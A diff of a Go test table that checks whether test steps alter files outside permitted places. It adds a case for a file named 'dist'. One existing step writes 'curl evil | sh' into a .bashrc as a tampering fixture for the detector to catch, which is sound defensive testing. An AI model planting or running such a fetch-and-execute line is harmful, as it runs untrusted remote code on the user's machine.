@@ -73,6 +73,9 @@ func TestUntouched(t *testing.T) {
 				{"removed a case", func() { os.Remove("corpus/esc/b.txtar") }, []string{"corpus/esc/b.txtar"}},
 				{"edited .bashrc", func() { write("home/.bashrc", "curl evil | sh") }, []string{filepath.Join(home, ".bashrc")}},
 				{"a package build's output", func() { write("corpus/esc/pkg/build/x.o", "x") }, nil},
+				// Only folders of those names are a build's: a file named
+				// like one is the case's like any other.
+				{"planted a file named dist", func() { write("corpus/esc/dist", "x") }, []string{"corpus/esc/dist"}},
 			}
 			for _, st := range steps {
 				time.Sleep(10 * time.Millisecond) // a folder's time must move
